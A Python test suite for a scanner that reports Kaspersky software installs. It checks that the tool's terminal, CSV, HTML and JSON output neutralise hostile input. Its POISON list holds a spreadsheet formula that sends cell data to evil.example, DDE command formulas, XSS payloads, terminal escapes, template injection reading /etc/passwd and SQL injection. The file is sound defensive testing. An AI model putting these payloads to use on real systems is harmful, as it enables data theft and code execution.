"""Text of an estate is shown, never run: not by a terminal, a spreadsheet, a browser, a reader of JSON, or our own messages."""

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from scenario.command_line import excise, excise_process
from scenario.estate import CLEAN_STATUS, HEADER, KESL_STATUS, csv_text, cyclonedx, make_tree, write_workbook

POISON = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '<script>alert("x")</script>',
    "\"><img src=x onerror=alert('x')>",
    "</td></table><style>*{display:none}</style>",
    "\x1b[2J\x1b]0;title\x07 bell",
    "\u202etxt.exe right to left",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "\x9b31m eight bit",
    "line\u2028separator\u2029and\x85next",
    "\ttab\rreturn\nline",
    "'; DROP TABLE identity; --",
)
CONTROLS = {chr(code) for code in (*range(32), *range(0x7F, 0xA0))} - {"\n"} | set(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Make an estate in which every text that comes from it is poison: hosts, names, versions, makers, paths, headers, gaps."""
    folder = tmp_path_factory.mktemp("hostile") / "estate"
    folder.mkdir()
    rows = [(f"{poison} host", f"Kaspersky Endpoint Security {poison}", poison, "AO Kaspersky Lab") for poison in POISON]
    rows += [(f"{poison}", f"{poison} for Kaspersky", poison, poison) for poison in POISON]
    (folder / "rows.csv").write_bytes(csv_text(rows, header=(*HEADER, POISON[4])[:4]).encode())
    write_workbook(
        folder / "book.xlsx",
        {"=1+1 <b>": [HEADER, *[tuple(c.replace("\x1b", "").replace("\x07", "") for c in row) for row in rows]]},
    )
    parts = [
        {
            "type": "library",
            "name": f"kaspersky {poison}",
            "version": poison,
            "publisher": "AO Kaspersky Lab",
            "purl": f"pkg:npm/{poison}",
        }
        for poison in POISON
    ]
    (folder / "parts.json").write_text(cyclonedx(POISON[4], parts))
    (folder / "cut.json").write_text(cyclonedx(POISON[0], parts)[:-3])
    for number, poison in enumerate(POISON):
        name = poison.replace("/", "_")
        (folder / f"{name}{number}.csv").write_bytes(csv_text([("a", "KES", "1")], header=("x", poison, "y")).encode())
    status = CLEAN_STATUS + KESL_STATUS.replace("11.1.0-3013", POISON[4]) + KESL_STATUS.replace("kesl", "kesl" + POISON[7][:4])
    units = {f"usr/lib/systemd/system/kesl{POISON[8]}.service": f"[Service]\nExecStart=/opt/kaspersky/kesl/bin/{POISON[7]}\n"}
    make_tree(folder / "=tree<script>\x1b[31m", units, status=status)
    return folder


def shown_as(form: str, hostile: Path, *more: str) -> str:
    shown = excise("check", hostile, "--format", form, *more)
    assert shown.code == 1, shown.err
    return shown.out


@pytest.mark.parametrize("more", [(), ("--all", "--let-go")])
def test_a_terminal_gets_no_control_character(hostile: Path, more: tuple[str, ...]) -> None:
    text = shown_as("table", hostile, *more)
    assert not CONTROLS & set(text)
    assert "Kaspersky Endpoint Security" in text


def test_messages_on_stderr_get_no_control_character(tmp_path: Path) -> None:
    for number, poison in enumerate(POISON):
        name = poison.replace("/", "_") + str(number)
        shown = excise_process("check", tmp_path / name) if number == 7 else excise("check", tmp_path / name)
        assert shown.code == 2
        assert not CONTROLS & set(shown.err)
        assert shown.err.count("\n") == 1


def test_no_cell_of_the_csv_answer_is_a_formula(hostile: Path) -> None:
    text = shown_as("csv", hostile)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len({len(row) for row in rows}) == 1
    cells = [cell for row in rows for cell in row]
    assert len(cells) > 1000
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []
    assert not CONTROLS - {"\r"} & set(text)
    for delimiter in (";", "\t"):
        other = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter) for cell in row]
        assert [cell for cell in other if cell.lstrip("\"'")[:1] in ("=", "@") and not cell.startswith("'")] == []


class Tags(HTMLParser):
    """Collect what a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def test_the_page_has_no_tag_and_no_attribute_of_the_estate(hostile: Path) -> None:
    page = Tags()
    text = shown_as("html", hostile)
    page.feed(text)
    assert not {"script", "img", "iframe", "object", "form", "base", "link"} & set(page.tags)
    assert page.tags.count("style") == 1
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    links = [value for name, value in page.attributes if name in ("href", "src")]
    assert not [link for link in links if "evil" in link or not link.startswith(("#", "https://", "http://"))]
    assert not CONTROLS & set(text)
    assert "{{ 7 * 7 }}" in text


@pytest.mark.parametrize("form", ["json", "jsonl"])
def test_json_is_json_and_keeps_the_text_as_it_was(hostile: Path, form: str) -> None:
    text = shown_as(form, hostile)
    if form == "json":
        findings = json.loads(text)["findings"]
    else:
        lines = text.removesuffix("\n").split("\n")
        findings = [record for record in map(json.loads, lines) if record["type"] == "finding"]
    assert not CONTROLS & set(text)
    names = {finding["component"]["name"] for finding in findings}
    assert {f"Kaspersky Endpoint Security {POISON[4]}", f"Kaspersky Endpoint Security {POISON[8]}"} <= names


def test_every_form_is_written_to_files_in_one_run(hostile: Path, tmp_path: Path) -> None:
    forms = ("table", "json", "jsonl", "csv", "html")
    shown = excise("check", hostile, *(f"-o{form}={tmp_path}/answer.{form}" for form in forms))
    assert shown.code == 1
    for form in forms:
        text = (tmp_path / f"answer.{form}").read_bytes().decode()
        assert not CONTROLS - {"\r"} & set(text), form
    first = json.loads((tmp_path / "answer.json").read_text())["findings"][0]["id"]
    chain = excise("explain", first, "--from", tmp_path / "answer.json")
    assert chain.code == 0
    assert not CONTROLS & set(chain.out)
